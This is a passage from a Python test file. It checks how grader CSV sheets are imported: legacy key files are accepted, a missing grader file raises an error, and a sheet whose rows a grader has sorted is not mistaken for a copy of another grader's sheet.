    assert "grader_2.csv is not a regular file" in err


def test_a_key_from_before_the_record_still_imports_but_a_gap_is_refused(filled: Path) -> None:
    pytest.importorskip("sklearn")
    key = default_key_path(filled)
    rows = _read(key)
    _write(key, [{k: v for k, v in r.items() if k != "sheets_sent"} for r in rows])
    assert import_sheets(filled).graders == ["grader_1", "grader_2", "grader_3"]
    (filled / "grader_2.csv").unlink()
    with pytest.raises(ValueError, match="expected grader_1.csv to grader_2.csv with no gap"):
        import_sheets(filled)


def test_sorted_rows_are_not_taken_for_a_copy(filled: Path) -> None:
    """A grader may sort their sheet; only another grader's exact order is a copy."""
    pytest.importorskip("sklearn")
    path = filled / "grader_2.csv"
    _write(path, sorted(_read(path), key=lambda r: r["code"]))
    assert import_sheets(filled).graders == ["grader_1", "grader_2", "grader_3"]
